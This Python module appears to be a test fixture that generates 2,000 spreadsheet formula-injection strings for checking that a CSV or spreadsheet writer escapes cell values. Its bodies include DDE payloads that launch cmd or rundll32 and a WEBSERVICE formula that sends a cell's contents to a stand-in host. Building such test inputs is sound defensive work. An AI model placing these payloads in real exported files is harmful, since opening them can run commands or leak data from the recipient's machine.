"""Texts that a careless writer would let become formulas, links or commands."""

from itertools import islice, product

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\u3000=",
    "'=",
    "\ufeff=",
    '"=',
    ";=",
    ",=",
    "=-",
    "==",
    "{=",
    "%0A=",
)
BODIES = (
    *(
        "1+1",
        "A1",
        "SUM(A1:A9)",
        "cmd|' /C calc'!A0",
        'HYPERLINK("https://example.invalid","点这里")',
        'IMPORTXML(A1,"//a")',
    ),
    *(
        'WEBSERVICE("https://example.invalid/"&A1)',
        'DDE("cmd";"/C calc";"x")',
        "1/0",
        "#REF!",
        "TRUE",
        "NOW()",
        "幸福里",
        "2号楼",
    ),
    *(
        "[0]!x",
        'INDIRECT("A1")',
        'EXEC("x")',
        "MSEXCEL|'\\..\\..\\x'!A1",
        "rundll32|'x'!_xlbgnm.A1",
        "户数*2",
        "N(1)",
        "-1+1|x",
    ),
    *(
        "10+20+cmd|' /C calc'!A0",
        "A1:A9",
        "{1,2}",
        '"a"&"b"',
        'CALL("x")',
        'REGISTER.ID("x")',
        "FILES()",
        "0.1%",
        "1E5x",
        "￥1",
    ),
)
ENDS = ("", " ", "\n", "；甲", '"')
OTHERS = (
    "http://example.invalid",
    "mailto:a@example.invalid",
    "internal:Sheet1!A1",
    "external:x.xlsx",
    "ftp://example.invalid",
    "_x003D_1+1",
    "&#61;1+1",
    "<f>1+1</f>",
)


def payloads() -> list[str]:
    """Two thousand of them, each different."""
    made = ("".join(parts) for parts in product(STARTS, BODIES, ENDS))
    found = list(dict.fromkeys([*OTHERS, *islice(made, 4_000)]))[:2_000]
    assert len(found) == 2_000
    return found
